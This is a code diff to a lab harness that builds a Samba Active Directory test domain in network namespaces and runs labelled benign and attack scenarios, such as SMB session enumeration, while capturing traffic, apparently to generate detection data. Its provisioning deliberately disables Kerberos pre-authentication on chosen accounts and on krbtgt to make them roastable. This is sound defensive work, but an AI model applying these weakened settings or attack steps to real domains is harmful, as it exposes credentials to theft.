@@ -16,6 +16,7 @@ attack steps live in lab/attacks.py and run inside the workstation namespaces wi
 from __future__ import annotations
 
 import argparse
+import contextlib
 import csv
 import hashlib
 import json
@@ -41,8 +42,18 @@ SMB_CONF = SAMBA / "etc" / "smb.conf"
 SAMBA_LOG = SAMBA / "log" / "samba.log"
 
 APT_PACKAGES = [
-    "samba", "samba-ad-dc", "samba-ad-provision", "samba-dsdb-modules", "samba-vfs-modules",
-    "winbind", "krb5-user", "tcpdump", "iproute2", "smbclient", "ldb-tools",
+    "samba",
+    "samba-ad-dc",
+    "samba-ad-provision",
+    "samba-dsdb-modules",
+    "samba-vfs-modules",
+    "winbind",
+    "krb5-user",
+    "tcpdump",
+    "iproute2",
+    "smbclient",
+    "ldb-tools",
+    "python3-venv",
 ]
 PIP_PACKAGES = ["impacket==0.13.1", "ldap3==2.9.1"]
 
@@ -102,26 +113,41 @@ SAMBA_OPTIONS = {
 }
 
 # Bump when the provisioning recipe changes: a golden snapshot with another stamp is rebuilt.
-RECIPE = json.dumps([REALM, DOMAIN, DC_NAME, ADMIN_PASS, USERS, COMPUTERS, SAMBA_OPTIONS, 8],
-                    sort_keys=True)
+RECIPE = json.dumps(
+    [REALM, DOMAIN, DC_NAME, ADMIN_PASS, USERS, COMPUTERS, SAMBA_OPTIONS, 8], sort_keys=True
+)
 
 
 def log(msg: str) -> None:
     print(f"[lab {time.strftime('%H:%M:%S')}] {msg}", flush=True)
 
 
-def sh(cmd: list[str] | str, check: bool = True, capture: bool = False, ns: str | None = None,
-       env: dict | None = None, timeout: float | None = None, quiet: bool = False,
-       cwd: Path | None = None) -> subprocess.CompletedProcess:
+def sh(
+    cmd: list[str] | str,
+    check: bool = True,
+    capture: bool = False,
+    ns: str | None = None,
+    env: dict | None = None,
+    timeout: float | None = None,
+    quiet: bool = False,
+    cwd: Path | None = None,
+) -> subprocess.CompletedProcess:
     if isinstance(cmd, str):
         cmd = ["bash", "-c", cmd]
     if ns:
         cmd = ["ip", "netns", "exec", ns, *cmd]
     if not quiet:
         log("$ " + " ".join(cmd))
-    r = subprocess.run(cmd, check=False, text=True, env=env, timeout=timeout, cwd=cwd,
-                       stdout=subprocess.PIPE if capture else None,
-                       stderr=subprocess.PIPE if capture else None)
+    r = subprocess.run(
+        cmd,
+        check=False,
+        text=True,
+        env=env,
+        timeout=timeout,
+        cwd=cwd,
+        stdout=subprocess.PIPE if capture else None,
+        stderr=subprocess.PIPE if capture else None,
+    )
     if check and r.returncode != 0:
         if capture:
             sys.stderr.write((r.stdout or "") + (r.stderr or ""))
@@ -131,10 +157,16 @@ def sh(cmd: list[str] | str, check: bool = True, capture: bool = False, ns: str 
 
 # --------------------------------------------------------------------------- install
 
+
 def ensure_packages() -> None:
-    missing = [p for p in APT_PACKAGES
-               if subprocess.run(["dpkg-query", "-W", "-f=${Status}", p], capture_output=True,
-                                 text=True).stdout.strip() != "install ok installed"]
+    missing = [
+        p
+        for p in APT_PACKAGES
+        if subprocess.run(
+            ["dpkg-query", "-W", "-f=${Status}", p], capture_output=True, text=True
+        ).stdout.strip()
+        != "install ok installed"
+    ]
     if missing:
         log(f"installing {' '.join(missing)}")
         env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
@@ -142,8 +174,13 @@ def ensure_packages() -> None:
         sh(["apt-get", "install", "-y", "-q", *missing], env=env)
     # Debian starts the file-server daemons after install on systemd hosts; the lab needs none
     # of them (our DC runs in its own namespace with its own config).
-    if not (VPY.exists() and subprocess.run(
-            [str(VPY), "-c", "import impacket, ldap3"], capture_output=True).returncode == 0):
+    if not (
+        VPY.exists()
+        and subprocess.run(
+            [str(VPY), "-c", "import impacket, ldap3"], capture_output=True
+        ).returncode
+        == 0
+    ):
         log("creating lab venv " + str(VENV))
         STATE.mkdir(parents=True, exist_ok=True)
         sh([sys.executable, "-m", "venv", str(VENV)])
@@ -152,20 +189,27 @@ def ensure_packages() -> None:
 
 def versions() -> dict:
     samba_v = subprocess.run(["samba", "-V"], capture_output=True, text=True).stdout.strip()
-    imp_v = subprocess.run([str(VPY), "-c", "import impacket.version as v;print(v.version)"],
-                           capture_output=True, text=True).stdout.strip()
-    ldap3_v = subprocess.run([str(VPY), "-c", "import ldap3;print(ldap3.__version__)"],
-                             capture_output=True, text=True).stdout.strip()
-    tcpdump_v = subprocess.run(["tcpdump", "--version"], capture_output=True,
-                               text=True).stdout.splitlines()[0]
+    imp_v = subprocess.run(
+        [str(VPY), "-c", "import impacket.version as v;print(v.version)"],
+        capture_output=True,
+        text=True,
+    ).stdout.strip()
+    ldap3_v = subprocess.run(
+        [str(VPY), "-c", "import ldap3;print(ldap3.__version__)"], capture_output=True, text=True
+    ).stdout.strip()
+    tcpdump_v = subprocess.run(
+        ["tcpdump", "--version"], capture_output=True, text=True
+    ).stdout.splitlines()[0]
     return {"samba": samba_v, "impacket": imp_v, "ldap3": ldap3_v, "tcpdump": tcpdump_v}
 
 
 # --------------------------------------------------------------------------- network
 
+
 def ns_exists(ns: str) -> bool:
-    return ns in subprocess.run(["ip", "netns", "list"], capture_output=True,
-                                text=True).stdout.split()
+    return (
+        ns in subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout.split()
+    )
 
 
 # Samba's KDC is Heimdal, whose "require-preauth" defaults to true for *every* account; only
@@ -177,7 +221,7 @@ KDC_SECTION = """
 
 
 def etc_files(ns: str) -> None:
-    ip, host = HOSTS[ns]
+    _ip, host = HOSTS[ns]
     d = Path("/etc/netns") / ns
     d.mkdir(parents=True, exist_ok=True)
     lines = ["127.0.0.1 localhost"]
@@ -186,7 +230,8 @@ def etc_files(ns: str) -> None:
     (d / "hosts").write_text("\n".join(lines) + "\n")
     (d / "hostname").write_text(host + "\n")
     (d / "resolv.conf").write_text(f"search {DNS_DOMAIN}\nnameserver {DC_IP}\n")
-    (d / "krb5.conf").write_text(f"""[libdefaults]
+    (d / "krb5.conf").write_text(
+        f"""[libdefaults]
     default_realm = {REALM}
     dns_lookup_realm = false
     dns_lookup_kdc = false
@@ -202,7 +247,9 @@ def etc_files(ns: str) -> None:
 [domain_realm]
     .{DNS_DOMAIN} = {REALM}
     {DNS_DOMAIN} = {REALM}
-""" + (KDC_SECTION if ns == "dcw-dc" else ""))
+"""
+        + (KDC_SECTION if ns == "dcw-dc" else "")
+    )
 
 
 def net_up() -> None:
@@ -244,15 +291,18 @@ def net_down() -> None:
 
 # --------------------------------------------------------------------------- samba
 
+
 def samba_tool(*args: str, check: bool = True) -> subprocess.CompletedProcess:
-    return sh(["samba-tool", *args, "-s", str(SMB_CONF)], ns="dcw-dc", check=check,
-              capture=True)
+    return sh(["samba-tool", *args, "-s", str(SMB_CONF)], ns="dcw-dc", check=check, capture=True)
 
 
 def ldbmodify(ldif: str) -> None:
-    p = subprocess.run(["ip", "netns", "exec", "dcw-dc", "ldbmodify", "-H",
-                        str(SAMBA / "private" / "sam.ldb")], input=ldif, text=True,
-                       capture_output=True)
+    p = subprocess.run(
+        ["ip", "netns", "exec", "dcw-dc", "ldbmodify", "-H", str(SAMBA / "private" / "sam.ldb")],
+        input=ldif,
+        text=True,
+        capture_output=True,
+    )
     if p.returncode != 0:
         raise RuntimeError("ldbmodify failed: " + p.stdout + p.stderr)
 
@@ -269,35 +319,63 @@ def provision() -> None:
     opts = []
     for k, v in SAMBA_OPTIONS.items():
         opts.append(f"--option={k} = {v}")
-    sh(["samba-tool", "domain", "provision", f"--realm={REALM}", f"--domain={DOMAIN}",
-        "--server-role=dc", "--dns-backend=SAMBA_INTERNAL", f"--adminpass={ADMIN_PASS}",
-        f"--host-name={DC_NAME}", f"--host-ip={DC_IP}", "--use-rfc2307",
-        f"--targetdir={SAMBA}", *opts], ns="dcw-dc", capture=True)
+    sh(
+        [
+            "samba-tool",
+            "domain",
+            "provision",
+            f"--realm={REALM}",
+            f"--domain={DOMAIN}",
+            "--server-role=dc",
+            "--dns-backend=SAMBA_INTERNAL",
+            f"--adminpass={ADMIN_PASS}",
+            f"--host-name={DC_NAME}",
+            f"--host-ip={DC_IP}",
+            "--use-rfc2307",
+            f"--targetdir={SAMBA}",
+            *opts,
+        ],
+        ns="dcw-dc",
+        capture=True,
+    )
     # provision keeps only some --option values (e.g. drops "ldap server require strong auth"):
     # write the lab's [global] options into smb.conf ourselves
     set_global_options()
     samba_tool("group", "add", "Helpdesk", "--description=Helpdesk operators")
     for name, pw, groups, extra in USERS:
-        samba_tool("user", "create", name, pw, "--use-username-as-cn",
-                   f"--mail-address={name}@{DNS_DOMAIN}")
+        samba_tool(
+            "user",
+            "create",
+            name,
+            pw,
+            "--use-username-as-cn",
+            f"--mail-address={name}@{DNS_DOMAIN}",
+        )
         for g in groups:
             samba_tool("group", "addmembers", g, name)
         if extra.get("spn"):
             samba_tool("spn", "add", extra["spn"], name)
         if extra.get("no_preauth"):
             # UF_DONT_REQUIRE_PREAUTH (0x400000) | NORMAL_ACCOUNT (0x200) | DONT_EXPIRE (0x10000)
-            ldbmodify(f"dn: CN={name},CN=Users,{BASE_DN}\nchangetype: modify\n"
-                      f"replace: userAccountControl\nuserAccountControl: {0x400000 | 0x200 | 0x10000}\n")
+            ldbmodify(
+                f"dn: CN={name},CN=Users,{BASE_DN}\nchangetype: modify\n"
+                "replace: userAccountControl\n"
+                f"userAccountControl: {0x400000 | 0x200 | 0x10000}\n"
+            )
         if extra.get("honeytoken"):
-            ldbmodify(f"dn: CN={name},CN=Users,{BASE_DN}\nchangetype: modify\n"
-                      "replace: description\ndescription: Backup operator (honeytoken - "
-                      "never used)\n")
+            ldbmodify(
+                f"dn: CN={name},CN=Users,{BASE_DN}\nchangetype: modify\n"
+                "replace: description\ndescription: Backup operator (honeytoken - "
+                "never used)\n"
+            )
     # Samba 4.17's Heimdal KDC demands pre-authentication if the *server* entry (krbtgt)
     # requires it, so a DONT_REQ_PREAUTH user is only AS-REP-roastable when krbtgt carries the
     # flag as well (krbtgt stays disabled; this only affects AS-REQs without pre-auth data for
     # accounts that themselves have DONT_REQ_PREAUTH).
-    ldbmodify(f"dn: CN=krbtgt,CN=Users,{BASE_DN}\nchangetype: modify\n"
-              f"replace: userAccountControl\nuserAccountControl: {0x400000 | 0x200 | 0x2}\n")
+    ldbmodify(
+        f"dn: CN=krbtgt,CN=Users,{BASE_DN}\nchangetype: modify\n"
+        f"replace: userAccountControl\nuserAccountControl: {0x400000 | 0x200 | 0x2}\n"
+    )
     for comp, pw in COMPUTERS:
         samba_tool("computer", "create", comp, f"--description=workstation {comp}")
         samba_tool("user", "setpassword", comp + "$", f"--newpassword={pw}")
@@ -315,8 +393,21 @@ def provision() -> None:
         f.write(f"\n[data]\n\tpath = {data}\n\tread only = yes\n")
     log("provisioned; snapshotting golden copy")
     # --xattrs/--acls: SYSVOL's NT ACLs live in security.NTACL xattrs and POSIX ACLs
-    sh(["tar", "--xattrs", "--xattrs-include=*", "--acls", "--numeric-owner", "-C", str(STATE),
-        "-cf", str(GOLDEN), "samba"], capture=True)
+    sh(
+        [
+            "tar",
+            "--xattrs",
+            "--xattrs-include=*",
+            "--acls",
+            "--numeric-owner",
+            "-C",
+            str(STATE),
+            "-cf",
+            str(GOLDEN),
+            "samba",
+        ],
+        capture=True,
+    )
     GOLDEN_STAMP.write_text(hashlib.sha256(RECIPE.encode()).hexdigest())
 
 
@@ -343,8 +434,21 @@ def restore_or_provision() -> None:
     if GOLDEN.exists() and GOLDEN_STAMP.exists() and GOLDEN_STAMP.read_text() == want:
         log("restoring Samba state from golden snapshot")
         shutil.rmtree(SAMBA, ignore_errors=True)
-        sh(["tar", "--xattrs", "--xattrs-include=*", "--acls", "--numeric-owner", "-p",
-            "-C", str(STATE), "-xf", str(GOLDEN)], quiet=True)
+        sh(
+            [
+                "tar",
+                "--xattrs",
+                "--xattrs-include=*",
+                "--acls",
+                "--numeric-owner",
+                "-p",
+                "-C",
+                str(STATE),
+                "-xf",
+                str(GOLDEN),
+            ],
+            quiet=True,
+        )
     else:
         provision()
 
@@ -362,10 +466,14 @@ def samba_pid() -> int | None:
 def wait_port(ns: str, port: int, timeout: float = 60) -> None:
     end = time.time() + timeout
     while time.time() < end:
-        out = subprocess.run(["ip", "netns", "exec", ns, "ss", "-ltnH"], capture_output=True,
-                             text=True).stdout
-        if any(line.split()[3].endswith(f":{port}") for line in out.splitlines()
-               if len(line.split()) > 3):
+        out = subprocess.run(
+            ["ip", "netns", "exec", ns, "ss", "-ltnH"], capture_output=True, text=True
+        ).stdout
+        if any(
+            line.split()[3].endswith(f":{port}")
+            for line in out.splitlines()
+            if len(line.split()) > 3
+        ):
             return
         time.sleep(0.5)
     raise RuntimeError(f"port {port} not listening in {ns}")
@@ -380,8 +488,12 @@ def samba_start() -> None:
     # a little settle time for the DRS/KDC/DNS tasks
     time.sleep(3)
     for ns in ("dcw-ws1", "dcw-ws2"):
-        r = sh(["timeout", "5", "bash", "-c", f"echo > /dev/tcp/{DC_IP}/445"], ns=ns,
-               check=False, quiet=True)
+        r = sh(
+            ["timeout", "5", "bash", "-c", f"echo > /dev/tcp/{DC_IP}/445"],
+            ns=ns,
+            check=False,
+            quiet=True,
+        )
         if r.returncode != 0:
             raise RuntimeError(f"{ns} cannot reach the DC at {DC_IP}:445")
     log(f"samba running, pid {samba_pid()}")
@@ -410,13 +522,13 @@ def samba_stop() -> None:
         left = ns_pids("dcw-dc")
         if not left:
             break
-        log(f"{'terminating' if sig == signal.SIGTERM else 'killing'} {len(left)} leftover "
-            f"process(es) in dcw-dc: {left}")
+        log(
+            f"{'terminating' if sig == signal.SIGTERM else 'killing'} {len(left)} leftover "
+            f"process(es) in dcw-dc: {left}"
+        )
         for p in left:
-            try:
+            with contextlib.suppress(ProcessLookupError):
                 os.kill(p, sig)
-            except ProcessLookupError:
-                pass
         for _ in range(50):
             if not ns_pids("dcw-dc"):
                 break
@@ -424,6 +536,7 @@ def samba_stop() -> None:
 
 
 # --------------------------------------------------------------------------- capture
+
 
 class Capture:
     def __init__(self, out_dir: Path, snaplen: int = 0):
@@ -438,10 +551,27 @@ class Capture:
         err = self.out_dir / ".tcpdump.err"
         self.errf = open(err, "w")
         self.proc = subprocess.Popen(
-            ["ip", "netns", "exec", "dcw-dc", "tcpdump", "-i", "eth0", "-n", "-U",
-             "-s", str(self.snaplen), "-Z", "root", "-w", str(self.pcap),
-             "not (ether proto 0x0806) and not ip6"],
-            stdout=subprocess.DEVNULL, stderr=self.errf)
+            [
+                "ip",
+                "netns",
+                "exec",
+                "dcw-dc",
+                "tcpdump",
+                "-i",
+                "eth0",
+                "-n",
+                "-U",
+                "-s",
+                str(self.snaplen),
+                "-Z",
+                "root",
+                "-w",
+                str(self.pcap),
+                "not (ether proto 0x0806) and not ip6",
+            ],
+            stdout=subprocess.DEVNULL,
+            stderr=self.errf,
+        )
         for _ in range(100):
             if "listening on" in err.read_text():
                 break
@@ -462,7 +592,7 @@ class Capture:
         errtext = (self.out_dir / ".tcpdump.err").read_text()
         (self.out_dir / ".tcpdump.err").unlink(missing_ok=True)
         log("tcpdump: " + " / ".join(errtext.strip().splitlines()[1:]))
-        self.packets, first, last = pcap_summary(self.pcap)
+        self.packets, _first, last = pcap_summary(self.pcap)
         self.end = time.time()
         if self.packets and self.end - last > 4:
             log(f"WARNING: capture ends {self.end - last:.1f}s before the scenario did")
@@ -476,6 +606,7 @@ class Capture:
 def pcap_summary(path: Path) -> tuple[int, float, float]:
     """(packets, first ts, last ts) of a classic pcap file (stdlib only)."""
     import struct
+
     data = path.read_bytes() if path.exists() else b""
     if len(data) < 24:
         return 0, 0.0, 0.0
@@ -519,13 +650,22 @@ def extract_audit(start: int) -> list[str]:
 
 # --------------------------------------------------------------------------- attack runner
 
+
 def attack(ns: str, name: str, *args: str, check: bool = True, timeout: float = 300):
     """Run one step of lab/attacks.py inside a workstation namespace with the lab venv."""
-    env = dict(os.environ, PYTHONPATH=str(REPO), DCW_LAB_WORK=str(WORK),
-               KRB5_CONFIG=f"/etc/krb5.conf")
+    env = dict(
+        os.environ, PYTHONPATH=str(REPO), DCW_LAB_WORK=str(WORK), KRB5_CONFIG="/etc/krb5.conf"
+    )
     env.pop("KRB5CCNAME", None)
-    r = sh([str(VPY), "-m", "lab.attacks", name, *args], ns=ns, env=env, check=False,
-           capture=True, timeout=timeout, cwd=REPO)
+    r = sh(
+        [str(VPY), "-m", "lab.attacks", name, *args],
+        ns=ns,
+        env=env,
+        check=False,
+        capture=True,
+        timeout=timeout,
+        cwd=REPO,
+    )
     text = (r.stdout or "") + (r.stderr or "")
     for line in text.rstrip().splitlines():
         print(f"    {ns}| {line}")
@@ -536,6 +676,7 @@ def attack(ns: str, name: str, *args: str, check: bool = True, timeout: float = 
 
 # --------------------------------------------------------------------------- scenarios
 
+
 @dataclass
 class Scenario:
     name: str
@@ -545,17 +686,40 @@ class Scenario:
     notes: str = ""
     tolerated: str = ""
     snaplen: int = 0
+    audit_expected: str = ""
+    audit_tolerated: str = ""
     steps: list = field(default_factory=list)  # filled at run time: provenance
 
 
 SCENARIOS: dict[str, Scenario] = {}
 
 
-def scenario(name: str, expected: str = "", key_entities: str = "", notes: str = "",
-             tolerated: str = "", snaplen: int = 0):
+def scenario(
+    name: str,
+    expected: str = "",
+    key_entities: str = "",
+    notes: str = "",
+    tolerated: str = "",
+    snaplen: int = 0,
+    audit_expected: str = "",
+    audit_tolerated: str = "",
+):
+    """Register a scenario. expected/tolerated label dc.pcap; audit_* label samba-audit.jsonl."""
+
     def deco(fn):
-        SCENARIOS[name] = Scenario(name, fn, expected, key_entities, notes, tolerated, snaplen)
+        SCENARIOS[name] = Scenario(
+            name,
+            fn,
+            expected,
+            key_entities,
+            notes,
+            tolerated,
+            snaplen,
+            audit_expected=audit_expected,
+            audit_tolerated=audit_tolerated,
+        )
         return fn
+
     return deco
 
 
@@ -567,9 +731,18 @@ PW["Administrator"] = ADMIN_PASS
 
 def nthash(password: str) -> str:
     """NT hash (MD4 of UTF-16LE) via the lab venv's impacket (hashlib may lack MD4)."""
-    return subprocess.run([str(VPY), "-c", "import sys;from impacket.ntlm import compute_nthash;"
-                           "print(compute_nthash(sys.argv[1]).hex())", password],
-                          capture_output=True, text=True, check=True).stdout.strip()
+    return subprocess.run(
+        [
+            str(VPY),
+            "-c",
+            "import sys;from impacket.ntlm import compute_nthash;"
+            "print(compute_nthash(sys.argv[1]).hex())",
+            password,
+        ],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.strip()
 
 
 def host_of(ns: str) -> str:
@@ -580,19 +753,28 @@ def step(s: Scenario, ns: str, name: str, *args: str, desc: str = "", check: boo
     """One lab.attacks step inside `ns`, recorded in the scenario's provenance."""
     r = attack(ns, name, *args, check=check)
     shown = " ".join(a if " " not in a else repr(a) for a in args)
-    s.steps.append(f"{host_of(ns)}: {desc + ' - ' if desc else ''}impacket/ldap3 step "
-                   f"`python -m lab.attacks {name} {shown}`")
+    s.steps.append(
+        f"{host_of(ns)}: {desc + ' - ' if desc else ''}impacket/ldap3 step "
+        f"`python -m lab.attacks {name} {shown}`"
+    )
     return r
 
 
-def tool(s: Scenario, ns: str, cmd: str, desc: str = "", stdin: str | None = None,
-         check: bool = True) -> subprocess.CompletedProcess:
+def tool(
+    s: Scenario, ns: str, cmd: str, desc: str = "", stdin: str | None = None, check: bool = True
+) -> subprocess.CompletedProcess:
     """A stock client tool (MIT kinit, Samba smbclient/samba-tool) inside `ns`."""
     env = dict(os.environ)
     env.pop("KRB5CCNAME", None)
     log(f"$ [{ns}] {cmd}")
-    r = subprocess.run(["ip", "netns", "exec", ns, "bash", "-c", cmd], input=stdin, text=True,
-                       capture_output=True, env=env, timeout=120)
+    r = subprocess.run(
+        ["ip", "netns", "exec", ns, "bash", "-c", cmd],
+        input=stdin,
+        text=True,
+        capture_output=True,
+        env=env,
+        timeout=120,
+    )
     for line in ((r.stdout or "") + (r.stderr or "")).rstrip().splitlines()[-8:]:
         print(f"    {ns}| {line}")
     if check and r.returncode != 0:
@@ -602,16 +784,27 @@ def tool(s: Scenario, ns: str, cmd: str, desc: str = "", stdin: str | None = Non
 
 
 def kinit(s: Scenario, ns: str, user: str, password: str, cc: str, desc: str = "") -> None:
-    tool(s, ns, f"KRB5CCNAME={WORK}/{cc} kinit -f '{user}@{REALM}' >/dev/null",
-         desc or f"{user} logs on (MIT kinit, AES)", stdin=password + "\n")
+    tool(
+        s,
+        ns,
+        f"KRB5CCNAME={WORK}/{cc} kinit -f '{user}@{REALM}' >/dev/null",
+        desc or f"{user} logs on (MIT kinit, AES)",
+        stdin=password + "\n",
+    )
 
 
-def smbclient_krb(s: Scenario, ns: str, cc: str, share: str, commands: str, desc: str = "",
-                  check: bool = True) -> None:
+def smbclient_krb(
+    s: Scenario, ns: str, cc: str, share: str, commands: str, desc: str = "", check: bool = True
+) -> None:
     nb = HOSTS[ns][1].upper()
-    tool(s, ns, f"KRB5CCNAME={WORK}/{cc} smbclient -n {nb} //dc01.{DNS_DOMAIN}/{share} "
-         f"--use-kerberos=required --use-krb5-ccache={WORK}/{cc} -c '{commands}'", desc,
-         check=check)
+    tool(
+        s,
+        ns,
+        f"KRB5CCNAME={WORK}/{cc} smbclient -n {nb} //dc01.{DNS_DOMAIN}/{share} "
+        f"--use-kerberos=required --use-krb5-ccache={WORK}/{cc} -c '{commands}'",
+        desc,
+        check=check,
+    )
 
 
 DEFAULT_GPO = "{31B2F340-016D-11D2-945F-00C04FB984F9}"
@@ -620,86 +813,194 @@ DC_GPO = "{6AC1786C-016F-11D2-945F-00C04FB984F9}"
 
 def domain_facts() -> dict:
     def ldb(base: str, attr: str) -> str:
-        out = subprocess.run(["ip", "netns", "exec", "dcw-dc", "ldbsearch", "-H",
-                              str(SAMBA / "private" / "sam.ldb"), "-b", base, "-s", "base",
-                              attr], capture_output=True, text=True).stdout
+        out = subprocess.run(
+            [
+                "ip",
+                "netns",
+                "exec",
+                "dcw-dc",
+                "ldbsearch",
+                "-H",
+                str(SAMBA / "private" / "sam.ldb"),
+                "-b",
+                base,
+                "-s",
+                "base",
+                attr,
+            ],
+            capture_output=True,
+            text=True,
+        ).stdout
         for line in out.splitlines():
             if line.startswith(attr + ":"):
                 return line.split(":", 1)[1].strip()
         raise RuntimeError(f"no {attr} on {base}")
-    return {"sid": ldb(BASE_DN, "objectSid"),
-            "krbtgt_kvno": ldb(f"CN=krbtgt,CN=Users,{BASE_DN}", "msDS-KeyVersionNumber")}
+
+    return {
+        "sid": ldb(BASE_DN, "objectSid"),
+        "krbtgt_kvno": ldb(f"CN=krbtgt,CN=Users,{BASE_DN}", "msDS-KeyVersionNumber"),
+    }
 
 
 def benign_activity(s: Scenario, short: bool = False) -> None:
     """Ordinary domain life: logons with stock clients, GPO reads, DNS, a little admin work."""
-    step(s, "dcw-ws1", "dns_axfr", "--srv", f"_ldap._tcp.dc._msdcs.{DNS_DOMAIN}",
-         f"_kerberos._tcp.{DNS_DOMAIN}", desc="DC locator SRV look-ups")
-    kinit(s, "dcw-ws1", "WS1$", dict(COMPUTERS)["WS1"], "ws1machine.cc",
-          "WS1 machine account logs on (MIT kinit)")
-    smbclient_krb(s, "dcw-ws1", "ws1machine.cc", "sysvol",
-                  f"cd {DNS_DOMAIN}/Policies/{DEFAULT_GPO}; get GPT.INI /dev/null; "
-                  "cd MACHINE; ls", "WS1$ reads the Default Domain Policy from SYSVOL")
+    step(
+        s,
+        "dcw-ws1",
+        "dns_axfr",
+        "--srv",
+        f"_ldap._tcp.dc._msdcs.{DNS_DOMAIN}",
+        f"_kerberos._tcp.{DNS_DOMAIN}",
+        desc="DC locator SRV look-ups",
+    )
+    kinit(
+        s,
+        "dcw-ws1",
+        "WS1$",
+        dict(COMPUTERS)["WS1"],
+        "ws1machine.cc",
+        "WS1 machine account logs on (MIT kinit)",
+    )
+    smbclient_krb(
+        s,
+        "dcw-ws1",
+        "ws1machine.cc",
+        "sysvol",
+        f"cd {DNS_DOMAIN}/Policies/{DEFAULT_GPO}; get GPT.INI /dev/null; cd MACHINE; ls",
+        "WS1$ reads the Default Domain Policy from SYSVOL",
+    )
     kinit(s, "dcw-ws1", "alice", PW["alice"], "alice.cc", "alice logs on at WS1 (kinit, AES)")
-    smbclient_krb(s, "dcw-ws1", "alice.cc", "sysvol",
-                  f"cd {DNS_DOMAIN}/Policies/{DEFAULT_GPO}; get GPT.INI /dev/null; "
-                  "cd USER; ls", "alice's user GPO processing")
-    smbclient_krb(s, "dcw-ws1", "alice.cc", "data", "get readme.txt /dev/null",
-                  "alice opens a file on the data share")
+    smbclient_krb(
+        s,
+        "dcw-ws1",
+        "alice.cc",
+        "sysvol",
+        f"cd {DNS_DOMAIN}/Policies/{DEFAULT_GPO}; get GPT.INI /dev/null; cd USER; ls",
+        "alice's user GPO processing",
+    )
+    smbclient_krb(
+        s,
+        "dcw-ws1",
+        "alice.cc",
+        "data",
+        "get readme.txt /dev/null",
+        "alice opens a file on the data share",
+    )
     if short:
         return
     kinit(s, "dcw-ws2", "bob", PW["bob"], "bob.cc", "bob logs on at WS2 (kinit, AES)")
     smbclient_krb(s, "dcw-ws2", "bob.cc", "netlogon", "ls", "bob lists NETLOGON")
-    tool(s, "dcw-ws2", f"smbclient -n WS2 //dc01.{DNS_DOMAIN}/data -U 'CONTOSO\\bob%{PW['bob']}'"
-         " -c 'ls; get readme.txt /dev/null'", "bob maps the data share with NTLM")
-    kinit(s, "dcw-ws2", "hd.admin", PW["hd.admin"], "hd.cc",
-          "helpdesk admin logs on at WS2")
-    tool(s, "dcw-ws2", f"KRB5CCNAME={WORK}/hd.cc samba-tool user setexpiry dave --noexpiry "
-         f"-H ldap://dc01.{DNS_DOMAIN} --use-kerberos=required", 
-         "helpdesk admin work: clear dave's password expiry over LDAP (samba-tool)",
-         check=False)
-    tool(s, "dcw-ws2", f"KRB5CCNAME={WORK}/hd.cc samba-tool user show erin "
-         f"-H ldap://dc01.{DNS_DOMAIN} --use-kerberos=required",
-         "helpdesk admin looks up erin's account", check=False)
+    tool(
+        s,
+        "dcw-ws2",
+        f"smbclient -n WS2 //dc01.{DNS_DOMAIN}/data -U 'CONTOSO\\bob%{PW['bob']}'"
+        " -c 'ls; get readme.txt /dev/null'",
+        "bob maps the data share with NTLM",
+    )
+    kinit(s, "dcw-ws2", "hd.admin", PW["hd.admin"], "hd.cc", "helpdesk admin logs on at WS2")
+    tool(
+        s,
+        "dcw-ws2",
+        f"KRB5CCNAME={WORK}/hd.cc samba-tool user setexpiry dave --noexpiry "
+        f"-H ldap://dc01.{DNS_DOMAIN} --use-kerberos=required",
+        "helpdesk admin work: clear dave's password expiry over LDAP (samba-tool)",
+        check=False,
+    )
+    tool(
+        s,
+        "dcw-ws2",
+        f"KRB5CCNAME={WORK}/hd.cc samba-tool user show erin "
+        f"-H ldap://dc01.{DNS_DOMAIN} --use-kerberos=required",
+        "helpdesk admin looks up erin's account",
+        check=False,
+    )
 
 
 # --------------------------------------------------------------------------- the scenarios
 
-@scenario("benign_baseline", key_entities="alice;bob;hd.admin;WS1$;WS1;WS2;10.77.0.21;10.77.0.22;DC01",
-          notes="Ordinary domain life and nothing else: DC-locator SRV look-ups; WS1$ machine and "
-                "user Kerberos logons (MIT kinit, AES, pre-auth) and SYSVOL GPO reads "
-                "(GPT.INI) with smbclient; bob on WS2 over Kerberos and NTLM reading shares; "
-                "the helpdesk admin (hd.admin, Account Operators) changes a user's expiry and "
-                "looks up a user over sealed LDAP. No alert expected (strict negative).")
+
+@scenario(
+    "benign_baseline",
+    key_entities="alice;bob;hd.admin;WS1$;WS1;WS2;10.77.0.21;10.77.0.22;DC01",
+    notes="Ordinary domain life and nothing else: DC-locator SRV look-ups; WS1$ machine and "
+    "user Kerberos logons (MIT kinit, AES, pre-auth) and SYSVOL GPO reads "
+    "(GPT.INI) with smbclient; bob on WS2 over Kerberos and NTLM reading shares; "
+    "the helpdesk admin (hd.admin, Account Operators) changes a user's expiry and "
+    "looks up a user over sealed LDAP. No alert expected (strict negative).",
+)
 def sc_benign(s):
     benign_activity(s)
 
 
-@scenario("smb_session_enum", expected="2012",
-          key_entities="alice;da.admin;WS1;10.77.0.21;DC01;10.77.0.10",
-          notes="NetrSessionEnum (srvsvc opnum 12) over SMB \\pipe\\srvsvc from WS1 at levels "
-                "10, 502, 1 and 0, first as the ordinary user alice (Samba answers "
-                "ACCESS_DENIED: only administrators may enumerate sessions), then as da.admin "
-                "(levels 0/1 answered; Samba does not implement 10/502). da.admin holds an SMB "
-                "session from WS2 during the enumeration.")
+@scenario(
+    "smb_session_enum",
+    expected="2012",
+    key_entities="alice;da.admin;WS1;10.77.0.21;DC01;10.77.0.10",
+    notes="NetrSessionEnum (srvsvc opnum 12) over SMB \\pipe\\srvsvc from WS1 at levels "
+    "10, 502, 1 and 0, first as the ordinary user alice (Samba answers "
+    "ACCESS_DENIED: only administrators may enumerate sessions), then as da.admin "
+    "(levels 0/1 answered; Samba does not implement 10/502). da.admin holds an SMB "
+    "session from WS2 during the enumeration.",
+    audit_expected="",
+    audit_tolerated="2012",
+)
 def sc_session_enum(s):
-    s.audit_expected, s.audit_tolerated = "", "2012"
     holder = start_holder(s, "dcw-ws2", "da.admin", 20)
-    step(s, "dcw-ws1", "session_enum", "--user", "alice", "--password", PW["alice"],
-         desc="SMB session enumeration as alice")
-    step(s, "dcw-ws1", "session_enum", "--user", "da.admin", "--password", PW["da.admin"],
-         "--levels", "1", "0", desc="SMB session enumeration as da.admin")
+    step(
+        s,
+        "dcw-ws1",
+        "session_enum",
+        "--user",
+        "alice",
+        "--password",
+        PW["alice"],
+        desc="SMB session enumeration as alice",
+    )
+    step(
+        s,
+        "dcw-ws1",
+        "session_enum",
+        "--user",
